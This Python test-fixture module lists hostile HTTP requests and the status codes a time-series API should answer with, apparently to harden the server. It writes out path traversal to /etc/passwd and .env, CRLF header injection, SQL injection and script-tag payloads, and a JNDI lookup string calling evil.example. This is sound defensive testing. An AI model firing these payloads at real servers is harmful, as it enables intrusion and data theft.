"""Hostile request lines and headers, byte for byte, and how each must be answered."""

from __future__ import annotations

from typing import NamedTuple

GOOD = b'{"timestamp":1,"value":1,"device":"d","user":"u"}'


class Request(NamedTuple):
    """A request's bytes, and the statuses of its answers in order; none if the connection is closed unanswered."""

    name: str
    content: bytes
    statuses: tuple[int, ...]


def get(target: str | bytes, *headers: str | bytes, method: str = "GET", host: str = "localhost") -> bytes:
    """Return a request without a body."""
    target = target.encode() if isinstance(target, str) else target
    lines = [header.encode("latin-1") if isinstance(header, str) else header for header in headers]
    head = [method.encode() + b" " + target + b" HTTP/1.1", b"Host: " + host.encode("latin-1"), *lines]
    return b"\r\n".join([*head, b"Connection: close", b"", b""])


def post(*headers: str, body: bytes = GOOD, length: bool = True, target: str = "/datapoints") -> bytes:
    """Return a request that would store a datapoint."""
    media_type = (
        [] if any(h.lower().startswith("content-type") for h in headers) else ["Content-Type: application/json"]
    )
    declared = [f"Content-Length: {len(body)}"] if length else []
    return get(target, *media_type, *declared, *headers, method="POST") + body


def _types() -> list[Request]:
    cases = {
        "application/json; charset=hex": 415,
        "application/json; charset=utf-7": 415,
        "application/json; charset=utf-16": 415,
        'application/json; charset="utf-8"': 201,
        "application/json; charset=UTF-8; charset=utf-16": 415,
        "application/json;" + ";".join(f"a{i}=b" for i in range(500)): 201,
        "application/json; " + "x" * 4_000: 201,
        "application/json; " + "x" * 30_000: 415,
        "application/json; " + "x" * 40_000: 431,
        'a;"' + ";" * 30_000: 415,
        'application/json;"' + ";" * 4_000: 201,
        'application/json;a="' + '\\"' * 2_000: 201,
        "application/json; charset*=utf-7''x": 415,
        "application/json; charset*=nope'x'y": 415,
        "application/json, text/csv": 415,
        "application/json\tx": 415,
        "APPLICATION/JSON": 201,
        "application/x-www-form-urlencoded": 415,
        "multipart/form-data; boundary=x": 415,
        "multipart/form-data; boundary=": 415,
        "text/plain": 415,
        "text/xml": 415,
        "*/*": 415,
        "": 415,
        "/": 415,
        "\xff\xfe": 415,
    }
    found = [Request(f"type {kind[:60]!r}", post(f"Content-Type: {kind}"), (status,)) for kind, status in cases.items()]
    return [*found, Request("two types", post("Content-Type: application/json", "Content-Type: text/csv"), (415,))]


def _paths() -> list[Request]:
    cases = {
        "/static/../manage.py": 404,
        "/static/%2e%2e/manage.py": 404,
        "/static/%252e%252e/manage.py": 404,
        "/static/..%2fmanage.py": 404,
        "/static/..\\manage.py": 404,
        "/static/..%5cmanage.py": 404,
        "/static//etc/passwd": 404,
        "/static/....//manage.py": 404,
        "/static/%00style.css": 404,
        "/static/style.css%00": 404,
        "/static/style.css/": 404,
        "/static/style.css;x": 404,
        "/static/C:/x": 404,
        "/static/" + "x" * 5_000: 404,
        "/static/" + "x/" * 2_000: 404,
        "/../../etc/passwd": 404,
        "/%2e%2e/%2e%2e/etc/passwd": 404,
        "//": 404,
        "///datapoints": 404,
        "//evil.example/datapoints": 404,
        "/datapoints;x=1": 404,
        "/datapoints/..": 404,
        "/datapoints%2f": 200,
        "/datapoints%00": 404,
        "/datapoints%0d%0aSet-Cookie:%20x=1": 404,
        "/%0d%0aLocation:%20http://evil.example": 404,
        "/nope/" + "x" * 60_000: 404,
        "/" + "/" * 10_000: 404,
        "/" + "%2f" * 10_000: 404,
        "/%ff": 400,
        "/%c0%af": 400,
        "/%ed%a0%80": 400,
        "/%": 404,
        "/%zz": 404,
        "/%u0041": 404,
        "/devices/%00/": 404,
        "/devices/" + "x" * 10_000: 404,
        "/devices/%0d%0ax": 404,
        "/devices/%F0%9F%98%80": 404,
        "/statistics/devices/" + "a/" * 5_000 + "avg": 404,
        "/statistics/devices/../../etc/avg": 404,
        "/api/bandwidth/devices/%22%3E%3Cscript%3E": 404,
        "/.git/config": 404,
        "/.env": 404,
        "/admin/": 404,
        "/manage.py": 404,
    }
    return [Request(f"path {path[:60]}", get(path), (status,)) for path, status in cases.items()]


def _queries() -> list[Request]:
    cases = {
        "/datapoints?" + "&".join(f"a{i}=1" for i in range(5_000)): 400,
        "/datapoints?" + "&".join(["limit=1"] * 900): 400,
        "/datapoints?" + "&" * 50_000: 400,
        "/datapoints?device=" + "x" * 50_000: 400,
        "/datapoints?limit=" + "1" * 50_000: 400,
        "/datapoints?start=" + "1" * 4_000: 400,
        "/datapoints?start=1e308": 400,
        "/datapoints?start=1e999": 400,
        "/datapoints?end=-1": 400,
        "/datapoints?end=99999999999999999999999999": 400,
        "/datapoints?%00=1": 400,
        "/datapoints?device=%00": 400,
        "/datapoints?device=%ff": 400,
        "/datapoints?device=%ed%a0%80": 400,
        "/datapoints?device=%0d%0aSet-Cookie:%20x=1": 400,
        "/datapoints?device[]=a": 400,
        "/datapoints?device=a;user=b": 200,
        "/datapoints?cursor=W10": 400,
        "/datapoints?cursor=" + "A" * 50_000: 400,
        "/datapoints?cursor=WzFlOTk5LCIiLCIiXQ": 400,  # [1e999,"",""]
        "/datapoints?cursor=Wzk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5LCIiLCIiLCJhc2MiXQ": 200,  # [10**23 - 1,"","","asc"]
        "/datapoints?cursor=Wy05OTk5OTk5OTk5OTk5OTk5OTk5OTk5OSwiIiwiIiwiYXNjIl0": 200,  # the same, negative
        "/datapoints?cursor=%C3%A9": 400,
        "/datapoints?_method=DELETE": 400,
        "/datapoints?format=../../x": 406,
        "/datapoints?format=" + "x" * 10_000: 406,
        "/datapoints?format=%3Cscript%3E": 406,
        "/datapoints?format=json&format=csv": 400,
        "/datapoints?format=Arrow": 406,
        "/datapoints?format=arrow&limit=10001": 400,
        "/statistics/devices/nobody/avg?format=arrow": 404,
        "/api/statistics?format=arrow": 406,
        "/devices?search=%27%20OR%201=1--": 200,
        "/devices?search=" + "%F0%9F%98%80" * 255: 200,
        "/api/bandwidth?device_uuid=a&end_time=9007199254740991&window_time=2147483647&num_windows=10000": 400,
        "/api/bandwidth?device_uuid=a&end_time=253402300799&window_time=2147483647&num_windows=10000": 404,
        "/statistics/devices/d/avg?bucket=9999999999d": 400,
        "/statistics/devices/d/avg?bucket=9999999999y": 400,
        "/statistics/devices/d/avg?bucket=1d&tz=../../../../etc/passwd": 400,
        "/statistics/devices/d/avg?bucket=1d&tz=%ED%A0%80": 400,
        "/statistics/devices/d/avg?start=1e300": 400,
        "/statistics/devices/d/moving_avg?window_size=" + "9" * 5_000: 400,
        "/charts/bandwidth?device_uuid=%3Cscript%3E": 404,
        "/charts/datapoints?device=%22onload=%22x": 404,
        "/charts/datapoints?device=d&start=1e300": 400,
        "/?%3Cscript%3E=1": 200,
        "/ping?verbose=%0d%0aSet-Cookie:%20x=1": 200,
        "/ping?x=1": 400,
        "/api/schema/?lang=../../etc": 400,
        "/api/docs/?script=%3Cscript%3E": 200,
    }
    return [Request(f"query {target[:70]}", get(target), (status,)) for target, status in cases.items()]


def _hosts() -> list[Request]:
    cases = {
        "evil.example": 400,
        "localhost@evil.example": 400,
        "user:secret@localhost": 400,
        "localhost:evil": 400,
        "localhost:80:80": 400,
        "localhost:-1": 400,
        "localhost:65535": 200,
        "localhost:65536": 400,
        "localhost:99999999999": 400,
        "localhost:" + "1" * 30_000: 400,
        "localhost, evil.example": 400,
        "localhost evil": 400,
        "localhost/": 400,
        "localhost?": 400,
        "localhost#": 400,
        "localhost\\": 400,
        "LOCALHOST": 200,
        "localhost.": 200,
        ".localhost": 400,
        "[::1]": 200,
        "[::1": 400,
        "[::ffff:127.0.0.1]": 400,
        "127.1": 400,
        "0x7f.1": 400,
        "\xff": 400,
        "x" * 10_000: 400,
        "": 400,
    }
    return [
        *(Request(f"host {host[:40]!r}", get("/devices", host=host), (status,)) for host, status in cases.items()),
        *(
            Request(f"a probe by host {host[:40]!r}", get(path, host=host), (200,))
            for host in ("evil.example", "localhost:evil", "a b<i>", "\xff", "x" * 10_000, "")
            for path in ("/healthz", "/readyz")
        ),
        Request("two hosts", get("/devices", "Host: evil.example"), (400,)),
        Request("a forwarded host", get("/devices", "X-Forwarded-Host: evil.example"), (200,)),
        Request("the absolute form of a foreign host", get("http://evil.example/devices"), (200,)),
        Request(
            "the absolute form, a foreign Host beside it", get("http://localhost/devices", host="evil.example"), (400,)
        ),
        Request("the asterisk form", get("*", method="OPTIONS"), (404,)),
        *(
            Request(
                f"a preflight of {origin[:30]}",
                get("/devices", f"Origin: {origin}", "Access-Control-Request-Method: DELETE", method="OPTIONS"),
                (200,),
            )
            for origin in ("https://evil.example", "null", "", "x" * 10_000)
        ),
    ]


def _methods() -> list[Request]:
    cases = {"TRACE": 405, "TRACK": 405, "PROPFIND": 405, "DELETE": 405, "X" * 200: 405}
    overrides = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method")
    return [
        *(Request(f"method {m[:20]}", get("/devices", method=m), (s,)) for m, s in cases.items()),
        *(
            Request(f"overridden by {n}", post(f"{n}: DELETE", target="/devices/d/datapoints"), (405,))
            for n in overrides
        ),
        Request("overridden in the query", post(target="/datapoints?_method=PUT"), (400,)),
    ]


def _headers() -> list[Request]:
    cases: list[tuple[str, int]] = [
        ("Accept: " + ",".join(["text/html;q=0.1"] * 200), 200),
        ("Accept: " + ",".join(["image/png"] * 200), 406),
        ("Accept: " + ",".join(["text/html;q=0.1"] * 2_000), 200),
        ("Accept: " + ",".join(["text/html;q=0.1"] * 3_000), 431),
        ('Accept: a;"' + ";" * 200_000, 431),
        ('Accept: image/png;"' + "," * 30_000, 200),
        ('Accept: image/png;a="' + '\\"' * 2_000, 406),
        ("\r\n".join(f"X-{i}: {'x' * 4_000}" for i in range(9)), 431),
        ("Accept: */*;q=nan", 200),
        ("Accept: */*;q=1e999", 200),
        ("Accept: application/json;q=-1", 200),
        ("Accept: text/csv;x*=nope'a'b", 200),
        ("Accept: application/vnd.apache.arrow.*", 406),
        ("Accept: application/vnd.apache.arrow.file", 406),
        ("Accept: <script>alert(1)</script>", 406),
        ("Accept: application/problem+json", 406),
        ("Accept-Encoding: gzip;q=nan, *;q=0", 200),
        ("Accept-Encoding: identity;q=0", 200),
        ("Accept-Encoding: " + "gzip;q=0.5," * 2_800, 200),
        ('Accept-Encoding: gzip;q="' + "\\" * 30_000, 200),
        ("Accept-Encoding: gzip\r\nAccept-Encoding: gzip;q=0", 200),
        ("Origin: https://evil.example\r\nAccess-Control-Request-Method: DELETE", 200),
        ("Origin: " + "x" * 30_000, 200),
        ("Accept-Language: " + "x," * 5_000, 200),
        ("Range: bytes=0-1", 200),
        ("Range: bytes=5-1,-9999999999999999999999", 200),
        ("If-None-Match: *", 304),
        ("Accept: text/csv\r\nIf-None-Match: *", 304),
        ("Accept: application/vnd.apache.arrow.stream\r\nIf-None-Match: *", 304),
        ('If-None-Match: *, "x"', 200),
        ('If-None-Match: W/"x", "y,z", x, "', 200),
        ("If-None-Match: " + '"x",' * 7_000, 200),
        ("If-None-Match: " + '"' * 30_000, 200),
        ("If-None-Match: \xff\x80", 200),
        ('If-Match: "x"', 200),
        ("If-Modified-Since: Fri, 99 Foo 99999 99:99:99 GMT", 200),
        ("If-Unmodified-Since: x", 200),
        ('If-Range: "x"', 200),
        ("Connection: Host, X-Hop", 200),
        ("TE: trailers", 200),
        ("Trailer: Content-Length", 200),
        ("Proxy: http://evil.example", 200),
        ("X-Forwarded-For: 1.2.3.4\t<script>", 200),
        ("X-Forwarded-For: " + "," * 30_000, 200),
        ("If-Modified-Since: " + "1:" * 15_000, 200),
        ("X-Request-ID: " + "x" * 30_000, 200),
        ("Content-Encoding: " + "x" * 30_000, 200),
        ("X-Original-URL: /datapoints", 200),
        ("Cookie: " + "a=b;" * 2_000, 200),
        ('Cookie: timeseries_token="' + "\\1" * 15_000, 200),
        ("Cookie: " + "timeseries_token=;" * 1_700, 200),
        ("Authorization: Basic !!!", 200),
        ("Authorization: Bearer " + "x" * 10_000, 200),
        ("User-Agent: ${jndi:ldap://evil.example} %s %(x)s {0} \\x1b[2J", 200),
        ("User-Agent: \xff\xfe", 200),
        ("Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13", 200),
        ("Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", 200),
        ("\r\n".join(f"X-{i}: x" for i in range(90)), 200),
    ]
    return [Request(f"header {h[:60]!r} of {len(h)}", get("/devices", h), (status,)) for h, status in cases]


def _snapshots() -> list[Request]:
    """Requests for a snapshot, to a server that keeps none: pages of other sites can ask in no way that is taken."""
    target = "/api/snapshot"
    cases = {
        "without a body": (get(target, method="POST"), 404),
        "with one that is not read": (post(target=target, body=b"{"), 404),
        "as a form": (post("Content-Type: application/x-www-form-urlencoded", target=target, body=b"a=1"), 415),
        "as text": (post("Content-Type: text/plain", target=target), 415),
        "from another site": (get(target, "Sec-Fetch-Site: cross-site", method="POST"), 415),
        "from another origin": (get(target, "Origin: null", method="POST"), 415),
        "elsewhere": (get(f"{target}?path=/etc/passwd", method="POST"), 400),
        "with GET": (get(target), 405),
    }
    return [Request(f"snapshot {name}", content, (status,)) for name, (content, status) in cases.items()]


REQUESTS = [*_types(), *_paths(), *_queries(), *_hosts(), *_methods(), *_headers(), *_snapshots()]
